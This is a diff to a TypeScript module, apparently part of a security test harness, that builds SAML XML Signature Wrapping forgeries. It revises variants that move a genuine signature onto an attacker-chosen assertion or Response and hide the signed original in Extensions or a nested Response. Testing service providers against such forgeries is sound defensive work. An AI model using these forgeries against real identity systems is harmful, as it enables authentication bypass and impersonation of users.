@@ -27,10 +27,10 @@ export interface ForgeInput extends LoginInput {
  * - `sibling-before` (XSW3): an unsigned evil assertion placed before the signed one in the Response.
  * - `wrapped-in-evil` (XSW4): the evil assertion is the Response's only assertion and holds the
  *   signed one as a child.
- * - `signature-moved` (XSW7-like): the signed assertion hidden in saml2p:Extensions; the evil
- *   assertion, in its place, carries a copy of the genuine ds:Signature (which points at the hidden one).
- * - `response-wrap` (XSW1): against response signatures: a new Response with the evil assertion
- *   carries the genuine response signature, with the genuine Response moved into ds:Object.
+ * - `signature-moved` (XSW7/8-like): the genuine assertion hidden in saml2p:Extensions; the evil
+ *   assertion, in its place, carries the genuine ds:Signature (which still points at the hidden one).
+ * - `response-wrap` (XSW2-like, against response signatures): a new Response holding the evil
+ *   assertion carries the genuine response signature, with the genuine Response nested after it.
  */
 export type XswVariant = "sibling-before" | "wrapped-in-evil" | "signature-moved" | "response-wrap";
 export const XSW_VARIANTS: readonly XswVariant[] = [
@@ -187,17 +187,14 @@ export function createForgery(ctx: ForgeContext): Forgery {
       const key = ctx.keys.signing(t.org.idpId);
 
       if (variant === "response-wrap") {
-        // The attacker's genuine response, signed at response level.
+        // The attacker's genuine response, signed at response level; its signature is moved into a
+        // new Response (holding the evil assertion) and the genuine Response, minus that signature
+        // (which the enveloped transform drops anyway), is nested right after it.
         const signedResponse = buildResponse(genuine, { assertionKey: key, responseKey: key });
         const responseSignature = extract(signedResponse, SIGNATURE); // the first one is the Response's
         const genuineWithoutSig = replaceOnce(signedResponse, responseSignature, "");
-        const wrappingSignature = replaceOnce(
-          responseSignature,
-          "</ds:Signature>",
-          `<ds:Object>${genuineWithoutSig}</ds:Object></ds:Signature>`,
-        );
         const evilResponse = responseXml({ ...genuine.response, id: samlId() }, evil);
-        return result(t, afterIssuer(evilResponse, wrappingSignature));
+        return result(t, afterIssuer(evilResponse, responseSignature + genuineWithoutSig));
       }
 
       // Assertion-level variants: the response signature (if any) cannot survive, so it is unsigned.
@@ -211,16 +208,18 @@ export function createForgery(ctx: ForgeContext): Forgery {
             responseXml(genuine.response, replaceOnce(evil, "</saml2:Assertion>", `${signedAssertion}</saml2:Assertion>`)),
           );
         case "signature-moved": {
+          // The signature is moved (not copied: a duplicate SignatureValue is itself suspicious) from
+          // the genuine assertion, now hidden in Extensions, into the evil one.
           const signature = extract(signedAssertion, SIGNATURE);
-          const evilWithSig = afterIssuer(evil, signature);
-          const response = responseXml(genuine.response, evilWithSig);
+          const hidden = replaceOnce(signedAssertion, signature, "");
+          const response = responseXml(genuine.response, afterIssuer(evil, signature));
           // Extensions goes between the Response's Issuer and Status.
           return result(
             t,
             replaceOnce(
               response,
               "<saml2p:Status>",
-              `<saml2p:Extensions>${signedAssertion}</saml2p:Extensions><saml2p:Status>`,
+              `<saml2p:Extensions>${hidden}</saml2p:Extensions><saml2p:Status>`,
             ),
           );
         }
